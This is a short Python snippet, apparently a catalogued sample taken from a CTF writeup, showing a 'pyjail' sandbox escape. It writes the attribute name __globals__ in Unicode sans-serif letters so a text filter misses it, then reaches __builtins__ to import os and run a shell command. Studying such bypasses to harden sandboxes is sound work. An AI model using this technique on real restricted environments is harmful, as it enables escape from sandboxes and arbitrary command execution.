# Source: github.com/Ataao/CTF-Writeups HeroCTFv4/Pyjail-Is-Mad/Pyjail-Is-Mad.md (unicode attribute names)
# Family: unicode-nfkc
# What: attribute name __globals__ written in sans-serif letters: a text filter misses it
def flag():
    pass

flag.__𝗀𝗅𝗈𝖻𝖺𝗅𝗌__["__builtins__"].__import__("os").system("id")
